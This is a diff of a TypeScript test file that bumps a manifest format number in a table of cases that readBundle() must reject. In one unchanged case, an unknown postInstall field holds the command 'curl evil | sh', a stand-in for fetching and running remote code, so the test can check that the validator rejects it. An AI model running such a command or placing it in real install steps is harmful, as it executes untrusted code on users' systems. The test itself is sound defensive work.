@@ -253,7 +253,7 @@ test('readBundle() refuses a correctly signed but invalid manifest with its mani
   const cases: Array<[string, Record<string, unknown>, string]> = [
     ['chunk sizes do not add up', { ...m, image: { ...m.image, size: m.image.size + 1 } }, 'ERR_MANIFEST_CHUNKS'],
     ['a small chunk in the middle', { ...m, image: { ...m.image, size: m.image.size - 1, chunks: [{ ...chunks[0], size: 4095 }, ...chunks.slice(1)] } }, 'ERR_MANIFEST_CHUNK_SIZE'],
-    ['format 2', { ...m, format: 2 }, 'ERR_MANIFEST_FORMAT'],
+    ['format 3', { ...m, format: 3 }, 'ERR_MANIFEST_FORMAT'],
     ['an unknown field', { ...m, postInstall: 'curl evil | sh' }, 'ERR_MANIFEST_FIELD'],
     ['a bad version', { ...m, version: 'latest' }, 'ERR_BAD_VERSION'],
   ];
